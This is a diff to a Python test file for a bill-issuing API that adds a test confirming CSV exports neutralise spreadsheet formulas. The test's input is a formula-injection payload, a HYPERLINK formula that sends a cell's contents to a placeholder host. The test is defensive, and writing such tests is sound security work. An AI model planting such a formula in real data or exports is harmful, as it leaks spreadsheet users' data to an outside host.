@@ -5,7 +5,9 @@ the bills offered to it); bad input as RFC 9457 problems naming the field."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 
 from sqlalchemy.orm import Session
@@ -188,3 +190,13 @@ def test_issue_and_hand_overs_are_in_the_evidence_log(aet: ApiClients, session: 
     _, entry, _ = store.get_leaf(session, ledger.EVIDENCE_LOG, handover["ledger_index"])
     assert json.loads(entry) == {**json.loads(entry), "bill_sha256": bill["sha256"],
                                  "node": "alashankou", "from": "CR", "to": "KTZ"}  # fmt: skip
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(aet: ApiClients) -> None:
+    """A consignee typed as a formula is exported quoted, so a spreadsheet shows it as text."""
+    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
+    bill = issued_bill(aet, consignee=typed)
+    exported = aet.as_("aet.shipper").get(f"{API}/bills.csv").text
+    [row] = [r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff")))
+             if r["number"] == bill["number"]]  # fmt: skip
+    assert row["consignee"] == "'" + typed
